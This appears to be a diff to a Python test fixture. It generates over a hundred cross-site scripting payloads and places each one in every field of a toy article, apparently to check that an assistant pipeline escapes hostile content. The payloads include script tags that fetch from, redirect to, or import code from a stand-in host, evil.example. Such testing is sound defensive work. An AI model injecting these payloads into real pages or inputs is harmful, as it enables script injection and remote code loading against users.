@@ -1,5 +1,9 @@
 """Texts that have become scripts elsewhere: a hundred and more, made of a few shapes and bodies."""
 
+from assistant.pipeline import Assistant
+from corpus.article import Source, article_from_blocks
+from tests.toy import toy_assistant
+
 _BODIES = ("alert(1)", "fetch('//evil.example')", "top.location='//evil.example'",
            "document.body.innerHTML=1", "import('//evil.example/x.js')")
 _SHAPES = (
@@ -29,3 +33,29 @@ _SHAPES = (
     "event: done<br><script>{}</script>",
 )
 PAYLOADS = tuple(shape.format(body) for shape in _SHAPES for body in _BODIES)
+
+
+def hostile_assistant() -> Assistant:
+    """One article for each payload, which stands in every field that an article has."""
+    return toy_assistant(
+        articles=[
+            article_from_blocks(
+                slug=f"hostile-{number}",
+                title=f"Cover {number} {payload}",
+                author=payload,
+                missions=[payload, "Soyuz 1"],
+                period=payload,
+                sources=[Source(payload, payload)],
+                updated=payload,
+                blocks=[
+                    ("heading", f"Section {number} {payload}"),
+                    ("paragraph", f"The cover number {number} was cancelled in 1967. {payload}"),
+                    ("item", f"The item {number} says {payload}"),
+                    ("note", f"The note {number} says {payload}"),
+                    ("roster", f"Crew\n{payload}"),
+                ],
+            )
+            for number, payload in enumerate(PAYLOADS)
+        ],
+        questions=(),
+    )
